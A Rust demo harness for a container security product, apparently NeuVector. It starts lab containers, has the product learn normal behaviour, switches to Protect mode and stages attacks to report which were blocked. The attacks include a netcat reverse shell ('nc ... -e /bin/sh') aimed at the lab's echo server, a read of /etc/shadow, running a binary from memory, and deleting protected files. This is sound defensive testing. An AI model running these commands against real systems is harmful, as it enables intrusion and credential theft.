//! Shows the product at work on this machine: builds three images, starts them on a private containerd, lets the
//! product learn what is normal, switches to Protect, attacks, and prints what became of each attack.

use std::io::Write as _;
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use clap::Parser;
use nv_scene::{CLIENT_GROUP, Counted, SECRET, Scene, TOOL, client_pod};
use serde_json::Value;

/// Three containers, learned, protected, attacked.
#[derive(Parser)]
struct Line {
    /// The product's binary
    #[arg(long, value_name = "FILE")]
    neuvector: PathBuf,
    /// Keep everything running at the end, so that the links can be opened, until Ctrl-C
    #[arg(long)]
    keep: bool,
}

/// How an attack ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum End {
    /// It did not happen.
    Stopped,
    /// It happened and was told, as this kernel has nothing that could stop it or nothing is against it.
    Told,
    /// It happened although it should have been stopped.
    Succeeded,
}

impl End {
    const fn of(stopped: bool) -> Self {
        if stopped { Self::Stopped } else { Self::Succeeded }
    }
    const fn word(self) -> &'static str {
        match self {
            Self::Stopped => "yes",
            Self::Told => "told",
            Self::Succeeded => "NO",
        }
    }
}

/// What became of an attack.
struct Outcome {
    attack: &'static str,
    end: End,
    mechanism: String,
    micros: Option<f64>,
    /// From the deed to the record in the REST API.
    seen: Duration,
    link: String,
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> ExitCode {
    let line = Line::parse();
    match Box::pin(demo(&line)).await {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => {
            say("an attack was not blocked");
            ExitCode::FAILURE
        }
        Err(error) => {
            say(&format!("{error:#}"));
            ExitCode::FAILURE
        }
    }
}

fn say(text: &str) {
    // A closed standard output ends nothing that matters here.
    drop(writeln!(std::io::stdout(), "{text}"));
}

async fn demo(line: &Line) -> Result<bool> {
    say("demo: building three images and starting them beside the product");
    let scene = Scene::start_with("demo", line.neuvector.clone()).await?;
    let outcomes = attacks(&scene).await;
    if line.keep && outcomes.is_ok() {
        say(&format!(
            "\ndemo: user admin, password {}, REST API {}, root certificate {}; Ctrl-C ends it",
            nv_scene::PASSWORD,
            scene.product.rest_url(),
            scene.product.ca_file().display()
        ));
        tokio::signal::ctrl_c().await?;
    }
    let ended = scene.stop().await;
    let outcomes = outcomes?;
    ended?;
    Ok(outcomes.iter().all(|outcome| outcome.end != End::Succeeded))
}

async fn attacks(scene: &Scene) -> Result<Vec<Outcome>> {
    say("demo: normal operation: the client asks the web server and the echo server");
    scene.operate().await?;
    scene.wait_learned().await?;
    let rules = serde_json::json!({"config": {"add_filters": [
        {"filter": SECRET, "behavior": "block_access"},
        {"filter": "/srv/vault/*", "recursive": true, "behavior": "block_access"},
    ]}});
    scene.api.patch(&format!("/v1/file_monitor/{CLIENT_GROUP}"), &rules).await?;
    say("demo: learned; switching all three services to Protect, the client to the zero-drift baseline");
    let body = serde_json::json!({"config": {"services": ["client.shop"], "baseline_profile": "zero-drift"}});
    scene.api.patch("/v1/service/config", &body).await?;
    scene.set_mode("Protect").await?;
    scene.operate().await.context("normal operation under Protect")?;
    say("demo: normal operation goes on; now the attacks");

    let mut outcomes = Vec::new();
    let copy = "cp /bin/attacker /tmp/unknown; /tmp/unknown write /tmp/proof-unknown";
    outcomes.push(
        program(scene, "an unknown program", &["/bin/sh", "-c", copy], "/tmp/unknown", "/tmp/proof-unknown")
            .await?,
    );
    let replace = format!("cat /bin/attacker > {TOOL}; {TOOL} write /tmp/proof-replaced");
    outcomes.push(
        program(scene, "a replaced program", &["/bin/sh", "-c", &replace], TOOL, "/tmp/proof-replaced")
            .await?,
    );
    let memory = ["/bin/attacker", "memfd", "/tmp/proof-memory"];
    outcomes.push(program(scene, "a program in memory", &memory, "memfd:", "/tmp/proof-memory").await?);
    outcomes.push(connection(scene).await?);
    outcomes.push(first_connection(scene).await?);
    outcomes.push(reverse_shell(scene).await?);
    outcomes.push(read_secret(scene).await?);
    let (from, to) = ("/srv/vault/key", "/srv/vault/moved");
    let rename = ["/bin/attacker", "rename", from, to];
    outcomes.push(change(scene, "a protected file renamed", &rename, from, "renamed").await?);
    let delete = ["/bin/attacker", "delete", SECRET];
    outcomes.push(change(scene, "a protected file deleted", &delete, SECRET, "deleted").await?);
    outcomes.push(quarantine(scene).await?);

    say("");
    say(&format!(
        "{:<28} {:<9} {:<18} {:>12} {:>10}  event",
        "attack", "blocked", "mechanism", "decision", "in API"
    ));
    for outcome in &outcomes {
        let micros = outcome.micros.map_or_else(|| "-".to_owned(), |micros| format!("{micros:.1} us"));
        let seen = format!("{} ms", outcome.seen.as_millis());
        let blocked = outcome.end.word();
        let row = format!(
            "{:<28} {blocked:<9} {:<18} {micros:>12} {seen:>10}  {}",
            outcome.attack, outcome.mechanism, outcome.link
        );
        say(&row);
    }
    Ok(outcomes)
}

/// A program that must not run: it ran if the file that it makes first of all is there.
async fn program(
    scene: &Scene,
    attack: &'static str,
    command: &[&str],
    path: &str,
    proof: &str,
) -> Result<Outcome> {
    let begin = Instant::now();
    // The shell, or the attacker itself, may be gone with the program: that is what is wanted.
    drop(scene.run(command).await);
    let (record, _) = scene
        .api
        .wait_for("/v1/log/incident", Duration::from_secs(10), |answer| {
            let list = answer.get("incidents")?.as_array()?;
            list.iter()
                .find(|record| text(record, "action") == "deny" && text(record, "proc_path").contains(path))
                .cloned()
        })
        .await
        .with_context(|| format!("no incident for {attack}"))?;
    Ok(Outcome {
        attack,
        end: End::of(!scene.has_file(proof)),
        mechanism: text(&record, "mechanism").to_owned(),
        micros: micros(&record),
        seen: begin.elapsed(),
        link: format!("{}/events/{}", scene.product.console_url(), text(&record, "id")),
    })
}

/// A connection that was never seen.
async fn connection(scene: &Scene) -> Result<Outcome> {
    let target = format!("{}:81", scene.web_address()?);
    let begin = Instant::now();
    let words = ["/bin/attacker", "connect", &target];
    let attempt = scene.run(&words);
    let (attempt, violation) = tokio::join!(attempt, violation(scene, 81, begin));
    Ok(violation?.outcome(scene, "a connection never seen", End::of(attempt?.exit_code != 0)))
}

/// A new pod whose first program does nothing but dial out, before there is anything at its interface.
async fn first_connection(scene: &Scene) -> Result<Outcome> {
    let target = format!("{}:82", scene.web_address()?);
    let before = Counted::of(&scene.web)?.received;
    let begin = Instant::now();
    let spec = client_pod(7, &["/bin/attacker", "dial", &target, "2000"]);
    let (pod, violation) = tokio::join!(scene.lab.run_pod(&spec), violation(scene, 82, begin));
    pod.context("the new pod")?;
    let violation = violation?;
    // The program goes on dialling for two seconds, while its interface comes under guard.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let stopped = Counted::of(&scene.web)?.received == before;
    Ok(violation.outcome(scene, "a new pod's first packet", End::of(stopped)))
}

/// A violation that was stopped, and when it was in the REST API.
struct Violation {
    record: Value,
    seen: Duration,
}

impl Violation {
    fn outcome(&self, scene: &Scene, attack: &'static str, end: End) -> Outcome {
        Outcome {
            attack,
            end,
            mechanism: text(&self.record, "mechanism").to_owned(),
            micros: micros(&self.record),
            seen: self.seen,
            link: format!("{}/events/{}", scene.product.console_url(), text(&self.record, "id")),
        }
    }
}

/// Waits until a stopped connection to a port is told.
async fn violation(scene: &Scene, port: u16, begin: Instant) -> Result<Violation> {
    let stopped = |answer: &Value| {
        let is = |record: &&Value| {
            text(record, "policy_action") == "deny"
                && record.get("server_port") == Some(&serde_json::json!(port))
        };
        let record = answer.get("violations")?.as_array()?.iter().find(is)?.clone();
        Some(Violation { record, seen: begin.elapsed() })
    };
    let told = scene.api.wait_for("/v1/log/violation", Duration::from_secs(10), stopped).await;
    Ok(told.with_context(|| format!("no violation for the connection to port {port}"))?.0)
}

/// How long the kernel took to decide, where it was measured.
fn micros(record: &Value) -> Option<f64> {
    record.get("decision_nanos").and_then(Value::as_f64).map(|nanos| nanos / 1000.0)
}

/// Waits for an incident, and makes a line of it.
async fn incident(
    scene: &Scene,
    attack: &'static str,
    begin: Instant,
    end: End,
    is: impl Fn(&Value) -> bool,
) -> Result<Outcome> {
    let found =
        |answer: &Value| answer.get("incidents")?.as_array()?.iter().find(|record| is(record)).cloned();
    let (record, _) = scene
        .api
        .wait_for("/v1/log/incident", Duration::from_secs(10), found)
        .await
        .with_context(|| format!("no incident for {attack}"))?;
    let mechanism = text(&record, "mechanism");
    Ok(Outcome {
        attack,
        end,
        mechanism: if mechanism.is_empty() { "-" } else { mechanism }.to_owned(),
        micros: micros(&record),
        seen: begin.elapsed(),
        link: format!("{}/events/{}", scene.product.console_url(), text(&record, "id")),
    })
}

/// A shell on a connection. Its program is in the profile: that it is on a socket is told, and not a reason to stop it.
async fn reverse_shell(scene: &Scene) -> Result<Outcome> {
    let begin = Instant::now();
    let attack = format!("timeout 2 nc {} 7 -e /bin/sh; true", scene.echo_address()?);
    let command = ["/bin/sh", "-c", &attack];
    let (ran, told) = tokio::join!(
        scene.run(&command),
        incident(scene, "a reverse shell", begin, End::Told, |record| text(record, "behaviour")
            == "remote_shell")
    );
    ran?;
    told
}

/// A read of a file that only some programs may read.
async fn read_secret(scene: &Scene) -> Result<Outcome> {
    let begin = Instant::now();
    let read = scene.run(&["/bin/attacker", "read", SECRET]).await?.exit_code == 0;
    incident(scene, "a read of /etc/shadow", begin, End::of(!read), |record| {
        text(record, "action") == "deny" && about(record, SECRET)
    })
    .await
}

/// A change of a protected file: stopped where the kernel can refuse it, else told.
async fn change(
    scene: &Scene,
    attack: &'static str,
    command: &[&str],
    path: &str,
    done: &str,
) -> Result<Outcome> {
    let begin = Instant::now();
    let succeeded = scene.run(command).await?.exit_code == 0;
    let end = if succeeded { End::Told } else { End::Stopped };
    incident(scene, attack, begin, end, |record| {
        about(record, path) && text(record, "message").contains(done)
    })
    .await
}

fn about(record: &Value, path: &str) -> bool {
    record.pointer("/file_name/0").and_then(Value::as_str) == Some(path)
}

/// A connection that is allowed, of a workload that was cut off.
async fn quarantine(scene: &Scene) -> Result<Outcome> {
    let id = &scene.client.container().id;
    let begin = Instant::now();
    let on = serde_json::json!({"config": {"quarantine": true}});
    scene.api.patch(&format!("/v1/workload/{id}"), &on).await?;
    let said = |answer: &Value| {
        let list = answer.get("events")?.as_array()?;
        list.iter().any(|record| text(record, "name") == "Container.Quarantined").then_some(())
    };
    scene.api.wait_for("/v1/log/activity", Duration::from_secs(10), said).await?;
    let seen = begin.elapsed();
    // The node has it a moment after it is said.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let web = format!("{}:80", scene.web_address()?);
    let talks = scene.run(&["/bin/attacker", "connect", &web]).await?.exit_code == 0;
    Ok(Outcome {
        attack: "anything, in quarantine",
        end: End::of(!talks),
        mechanism: "traffic_control".to_owned(),
        micros: None,
        seen,
        link: format!("{}/containers", scene.product.console_url()),
    })
}

fn text<'a>(record: &'a Value, key: &str) -> &'a str {
    record.get(key).and_then(Value::as_str).unwrap_or_default()
}
